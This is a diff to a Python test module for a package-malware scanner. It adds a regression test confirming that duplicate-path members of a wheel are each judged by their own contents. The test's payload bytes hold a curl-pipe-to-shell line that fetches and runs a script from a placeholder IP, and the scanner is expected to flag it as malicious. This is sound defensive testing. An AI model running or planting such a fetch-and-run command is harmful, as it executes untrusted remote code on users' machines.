@@ -6,16 +6,18 @@ Payload text is inert (a `.invalid` host) and nothing is run: the scanner reads 
 from __future__ import annotations
 
 import ast
+import warnings
 from pathlib import Path
 
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from custody.scan import Scanner, ScanTask
+from custody.scan import Scanner, ScanTask, Verdict
 from custody.scan import collect as collect_module
 from custody.scan.python_ast import within_prose
-from tests.scan.builders import DEFAULT_NAME, write_sdist
+from tests.artifacts.builders import make_zip
+from tests.scan.builders import DEFAULT_NAME, wheel_entries, write_sdist
 
 PKG = DEFAULT_NAME
 URL = "https://downloads.example.invalid/install.sh"
@@ -105,3 +107,20 @@ def test_the_long_line_precheck_never_misses_a_long_line(lengths: list[int]) -> 
         assert collect_module._may_have_huge_line(raw)
     if len(raw) <= collect_module.HUGE_LINE // 2 or max(lengths) < collect_module.HUGE_LINE // 2:
         assert not collect_module._may_have_huge_line(raw)
+
+
+def test_each_of_two_members_of_one_path_is_judged_by_its_own_bytes(tmp_path: Path) -> None:
+    # A test module that imports library code makes the pattern pass run on every module up
+    # front; its results were kept by path, so a payload read first took the results of a
+    # harmless copy of the same path read after it, and the wheel scanned clean.
+    payload = b'import os\nos.system("curl http://192.0.2.1/x.sh | sh")\n'
+    harmless = b"x = 1\n" + b"# padding\n" * 100  # larger: read after the payload
+    entries = [*wheel_entries({f"{PKG}/tests/test_util.py": f"from {PKG} import util\n"}).items()]
+    entries += [(f"{PKG}/util.py", payload), (f"{PKG}/util.py", harmless)]
+    path = tmp_path / f"{PKG}-1.0.0-py3-none-any.whl"
+    with warnings.catch_warnings():
+        warnings.simplefilter("ignore", UserWarning)  # zipfile: "Duplicate name"
+        path.write_bytes(make_zip(entries))
+    result = Scanner().scan_task(ScanTask(str(path)))[0]
+    assert result.verdict is Verdict.MALICIOUS
+    assert "raw-ip-url" in {f.rule for f in result.findings}  # the payload's own finding
